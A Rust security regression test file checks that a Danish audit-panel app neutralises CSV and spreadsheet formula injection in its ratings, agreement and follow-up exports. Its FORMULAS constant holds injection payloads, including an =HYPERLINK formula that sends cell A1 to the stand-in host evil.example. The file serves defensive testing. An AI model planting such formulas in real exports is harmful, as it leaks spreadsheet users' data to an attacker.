//! Security regression tests: csv_injection (see `tests/security.rs`).
//!
//! A panelist's reason and the koordinator's follow-up text end up in the CSV exports. A cell that
//! begins with `=`, `+`, `-`, `@`, a tab or a carriage return is run as a formula by a spreadsheet
//! (`=HYPERLINK(…)` sends the reader's data elsewhere), so every text cell that starts so must come out
//! with a leading `'` (OWASP's advice), while the number columns stay plain numbers.

use reqwest::{Client, StatusCode};
use serde_json::{Value, json};

use crate::helpers::{TestApp, csrf_token, get, on_each_engine};
use crate::rating::{all_units, token};

/// Reasons a panelist could type that a spreadsheet would run as formulas.
const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Klik her\")",
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "=1+1 og mere tekst",
];

/// The characters a cell may not start with unless neutralised.
const DANGEROUS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The cells of a CSV file (`separator` between cells; a byte-order mark is skipped).
fn read_csv(text: &str, separator: u8) -> Vec<Vec<String>> {
    let text = text.trim_start_matches('\u{feff}');
    csv::ReaderBuilder::new()
        .has_headers(false)
        .delimiter(separator)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

/// Asserts that no cell of `rows` would run as a formula: a cell that starts with a dangerous character
/// must be a number (a spreadsheet reads `-0.5` as the number it is).
fn assert_no_live_formula(file: &str, rows: &[Vec<String>]) {
    for row in rows {
        for cell in row {
            if cell.starts_with(DANGEROUS) {
                assert!(
                    cell.parse::<f64>().is_ok(),
                    "{file}: the cell {cell:?} would run as a formula (row {row:?})"
                );
            }
        }
    }
}

/// The column named `name` in the header row.
fn column(rows: &[Vec<String>], name: &str) -> usize {
    rows[0]
        .iter()
        .position(|h| h == name)
        .unwrap_or_else(|| panic!("no column {name} in {:?}", rows[0]))
}

/// A CSV download's text, as `client`.
async fn download(client: &Client, url: &str) -> String {
    let response = client.get(url).send().await.unwrap();
    assert_eq!(response.status(), StatusCode::OK, "{url}");
    response.text().await.unwrap()
}

/// syd-3 submits ratings of 25.1 with the formula reasons; returns the reasons as stored.
async fn plant_reasons(app: &TestApp) -> Vec<String> {
    let token = token(app, "syd-3").await;
    let ratings: Vec<Value> = all_units()
        .iter()
        .zip(FORMULAS)
        .map(|(unit, reason)| json!({"unit": unit, "value": 3, "reason": reason}))
        .collect();
    let response = crate::helpers::client()
        .post(app.url("/api/v1/audits/25.1/ratings"))
        .bearer_auth(&token)
        .json(&json!({"ratings": ratings, "submit": true}))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::CREATED);
    let written: Value = response.json().await.unwrap();
    written["ratings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["reason"].as_str().unwrap().to_owned())
        .collect()
}

/// The koordinator adds a follow-up action to 25.1 whose text and responsible party are formulas.
async fn plant_action(app: &TestApp, koordinator: &Client) {
    let path = app.url("/audits/25.1/rapport/rediger/tiltag");
    let (status, form) = get(koordinator, &path).await;
    assert_eq!(status, StatusCode::OK, "{form}");
    let response = koordinator
        .post(&path)
        .form(&[
            ("_csrf", csrf_token(&form).as_str()),
            ("version", "0"),
            ("id", "formel"),
            ("tekst", FORMULAS[0]),
            ("punkter", ""),
            ("andet", "@SUM(A1)"),
            ("frist", "2. halvår 2025"),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(
        response.status(),
        StatusCode::SEE_OTHER,
        "{}",
        response.text().await.unwrap()
    );
}

/// Hole: a reason beginning with `=`, `+`, `-`, `@` or a tab went into `bedoemmelser.csv` as a live
/// formula; the scores and round numbers must stay numbers.
#[tokio::test]
async fn reasons_that_look_like_formulas_are_neutralised_in_the_ratings_export() {
    on_each_engine(async |app| {
        let reasons = plant_reasons(app).await;
        let koordinator = app.login_as("koordinator").await;
        let response = koordinator
            .post(app.url("/api/v1/audits/25.1/transition"))
            .bearer_auth(token(app, "koordinator").await)
            .json(&json!({"to": "droeftelse"}))
            .send()
            .await
            .unwrap();
        assert!(response.status().is_success(), "the reveal");

        let text = download(
            &koordinator,
            &app.url("/audits/25.1/rapport/eksport/bedoemmelser.csv"),
        )
        .await;
        let rows = read_csv(&text, b',');
        let (rater, reason, value, round) = (
            column(&rows, "rater"),
            column(&rows, "reason"),
            column(&rows, "value"),
            column(&rows, "round"),
        );
        let mine: Vec<&Vec<String>> = rows.iter().filter(|r| r[rater] == "syd-3").collect();
        assert_eq!(mine.len(), reasons.len());
        for stored in &reasons {
            assert!(
                stored.starts_with(DANGEROUS),
                "{stored:?} was stored as typed"
            );
            assert!(
                mine.iter().any(|r| r[reason] == format!("'{stored}")),
                "the reason {stored:?} is exported with a leading ': {mine:?}"
            );
        }
        for row in &rows[1..] {
            assert!(
                row[round] == "1" || row[round] == "2",
                "round is a number: {row:?}"
            );
        }
        assert!(
            mine.iter().all(|r| r[value] == "3"),
            "syd-3's scores are plain numbers: {mine:?}"
        );
        assert_no_live_formula("bedoemmelser.csv", &rows);

        // The agreement table: its numbers (negative coefficients included) are unprefixed numbers.
        let text = download(
            &koordinator,
            &app.url("/audits/25.1/rapport/eksport/enighed.csv"),
        )
        .await;
        let rows = read_csv(&text, b',');
        let first_number = column(&rows, "n_units");
        for row in &rows[1..] {
            for cell in &row[first_number..] {
                assert!(
                    cell.is_empty() || cell.parse::<f64>().is_ok(),
                    "enighed.csv: {cell:?} is a number"
                );
            }
        }
        assert_no_live_formula("enighed.csv", &rows);

        // The workbook stores the reason as a string, never as a formula.
        let bytes = koordinator
            .get(app.url("/audits/25.1/rapport/eksport/auditpanel-25.1.xlsx"))
            .send()
            .await
            .unwrap()
            .bytes()
            .await
            .unwrap();
        let mut book: calamine::Xlsx<_> =
            calamine::open_workbook_from_rs(std::io::Cursor::new(bytes.to_vec())).unwrap();
        use calamine::Reader as _;
        let formulas = book.worksheet_formula("Bedømmelser").unwrap();
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "no formula in the workbook"
        );
        let sheet = book.worksheet_range("Bedømmelser").unwrap();
        assert!(
            sheet
                .used_cells()
                .any(|(_, _, c)| *c == calamine::Data::String(reasons[0].clone())),
            "the reason is kept as text in the workbook"
        );
    })
    .await;
}

/// Hole: a follow-up action's text (and a responsible party typed as free text) went into
/// `opfoelgningsplan.csv` and the overview's `/opfoelgning.csv` as a live formula.
#[tokio::test]
async fn follow_up_texts_that_look_like_formulas_are_neutralised_in_the_plan_exports() {
    on_each_engine(async |app| {
        let koordinator = app.login_as("koordinator").await;
        let response = koordinator
            .post(app.url("/api/v1/audits/25.1/transition"))
            .bearer_auth(token(app, "koordinator").await)
            .json(&json!({"to": "droeftelse"}))
            .send()
            .await
            .unwrap();
        assert!(response.status().is_success(), "the reveal");
        plant_action(app, &koordinator).await;

        let text = download(
            &koordinator,
            &app.url("/audits/25.1/rapport/eksport/opfoelgningsplan.csv"),
        )
        .await;
        let rows = read_csv(&text, b',');
        let (id, tekst, responsible) = (
            column(&rows, "id"),
            column(&rows, "text"),
            column(&rows, "responsible"),
        );
        let row = rows
            .iter()
            .find(|r| r[id] == "formel")
            .unwrap_or_else(|| panic!("the planted action is exported: {rows:?}"));
        assert_eq!(row[tekst], format!("'{}", FORMULAS[0]));
        assert_eq!(row[responsible], "'@SUM(A1)");
        assert_no_live_formula("opfoelgningsplan.csv", &rows);

        let text = download(&koordinator, &app.url("/opfoelgning.csv")).await;
        let rows = read_csv(&text, b';');
        let punkt = column(&rows, "opfoelgningspunkt");
        assert!(
            rows.iter().any(|r| r[punkt].starts_with("'=HYPERLINK")),
            "the overview exports the planted action neutralised: {rows:?}"
        );
        assert_no_live_formula("opfoelgning.csv", &rows);
    })
    .await;
}
